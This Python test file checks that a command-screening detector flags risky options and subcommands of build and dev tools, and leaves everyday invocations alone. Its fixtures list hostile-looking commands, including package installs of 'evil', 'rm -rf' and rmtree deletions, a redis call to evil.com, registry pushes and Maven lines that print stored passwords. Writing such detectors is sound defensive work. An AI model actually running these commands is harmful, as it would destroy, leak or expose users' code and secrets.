"""Options and subcommands that make of a build, a test or a look something else."""

import pytest

from hub.contract.effects import Effect
from hub.screening.commands import is_dangerous, is_unknown, read_command

FOLDER = "/home/me/shop"
FOREIGN = (
    *(
        f"{runner} -m pip install evil"
        for runner in ("coverage run", "python -m coverage run", "memray run", "viztracer")
    ),
    *(
        f"{runner} -m pip install evil"
        for runner in ("pyinstrument", "torchrun", "accelerate launch", "ipython", "pypy3")
    ),
    *("task -g test", "rake -g test", "conda run -p /tmp/x pytest", "qsv luau map x 'os.execute(\"rm x\")' a.csv"),
    "jello 'os.remove(\"x\")'",
    *("uv run -m pip install evil", "uv run -m pip download evil", "uv run --frozen --module pip install evil"),
    *("cargo +/tmp/x test", "cargo +../x build", "rustc +/tmp/x a.rs", "rustfmt +/tmp/x src/a.rs"),
    *("rustup run /tmp/x cargo test", "rustup run ./x cargo test", "rustup run ../x rustc a.rs"),
    *("deno x evil", "deno x -y cowsay", "dotnet dnx evil", "cargo quickinstall x", "cargo install-update -a"),
    *("just -g test", "just --global-justfile test"),
    *('fx a.json \'require("fs").rmSync("src")\'', "cat a.json | fx 'process.kill(1)'", "fx a.json 'require`fs`'"),
)
LOST = (
    *("gh co 1 -f", "py-spy record -o a.svg -- rm -rf src", "samply record rm -rf src"),
    *("uv run -m timeit 'import shutil; shutil.rmtree(\"src\")'", "uv run -m venv --clear src"),
    *("deno test --clean --coverage=src", "cargo insta test --unreferenced=delete", "cargo insta reject"),
    *("gh pr checkout 1 --force", "gh pr checkout 1 -f", "gh pr checkout 1 --force --branch main"),
    "swift package unedit --force x",
)
SENT = (
    *("uv run -m http.server", "uv run --module http.server", "uv run --module=http.server", "uv run -mhttp.server"),
    *("docker build --output type=registry .", "docker build -o type=image,push=true ."),
    *(
        "docker buildx build --output=type=image,push=true,name=evil/x .",
        "docker build --cache-to type=registry,ref=x .",
    ),
    "deno audit --socket",
    *("duckdb md:x -c \"create table t as from 'a.csv'\"", "redis-cli --cluster call evil.com:6379 set a b"),
)
SET_UP = (
    *("cargo deb --install", "go telemetry on", "git update-index --assume-unchanged x"),
    *("git update-index --skip-worktree src/a.py", "xsv split ~ a.csv"),
)
SHOWN = (
    "mvn help:effective-settings -DshowPasswords=true",
    "mvn help:evaluate -Dexpression=settings.servers -q -DforceStdout",
)
EVERYDAY = (
    *(
        "coverage run -m pytest tests -k x",
        "coverage run --source=src -m pytest",
        "coverage report -m --skip-covered",
        "memray run -o out.bin -m pytest",
    ),
    *("pyinstrument -m pytest tests", "torchrun --nproc_per_node 2 train.py", "ipython -m pytest", "pypy3 -m pytest"),
    *("py-spy record -o a.svg -- python a.py", "samply record cargo test", "conda run -n shop pytest", "gh co 1"),
    *("task test", "rake test", "jello _.name"),
    *(
        "uv run -m pytest tests -x",
        "uv run -m pytest -m slow",
        "uv run pytest -m 'slow and fast'",
        "uv run -m ruff check .",
    ),
    *("uv run -m shop.cli report", "uv run --group dev -m mypy src", "uv run python -m pytest"),
    *("cargo +nightly test", "cargo +1.80 build", "rustup run nightly cargo test", "cargo install-update --list"),
    *("cargo deb", "cargo insta test", "cargo insta accept", "just test", "go telemetry", "deno test --coverage=cov"),
    *("deno test --clean --coverage=cov", "docker build -o out .", "docker build --output type=local,dest=out ."),
    *("gradle test", "gh pr checkout 1", "git update-index --refresh", "git update-index --no-skip-worktree x"),
    *(
        "xsv select a a.csv",
        "xsv split out a.csv",
        "fx a.json .name",
        "fx a.json 'x => x.name'",
        "cat a.json | fx .name",
    ),
    *("mvn help:evaluate -Dexpression=project.version -q -DforceStdout", "mvn help:effective-settings"),
    *("duckdb shop.db -c 'select 1'", "redis-cli --cluster check localhost:6379"),
)


@pytest.mark.parametrize(
    ("effect", "commands"),
    [
        (Effect.RUNS_UNKNOWN_CODE, FOREIGN),
        (Effect.DELETES, LOST),
        (Effect.LEAVES_THE_MACHINE, SENT),
        (Effect.CHANGES_SYSTEM, SET_UP),
        (Effect.READS_SECRETS, SHOWN),
    ],
)
def test_what_an_option_or_a_subcommand_adds_is_noticed(effect: Effect, commands: tuple[str, ...]) -> None:
    for command in commands:
        assert effect in read_command(command, folder=FOLDER).effects, command


def test_everyday_lines_of_the_same_programs_are_not_asked_about() -> None:
    for command in EVERYDAY:
        reading = read_command(command, folder=FOLDER)
        assert not is_dangerous(reading), (command, reading)
        assert not is_unknown(reading), (command, reading)
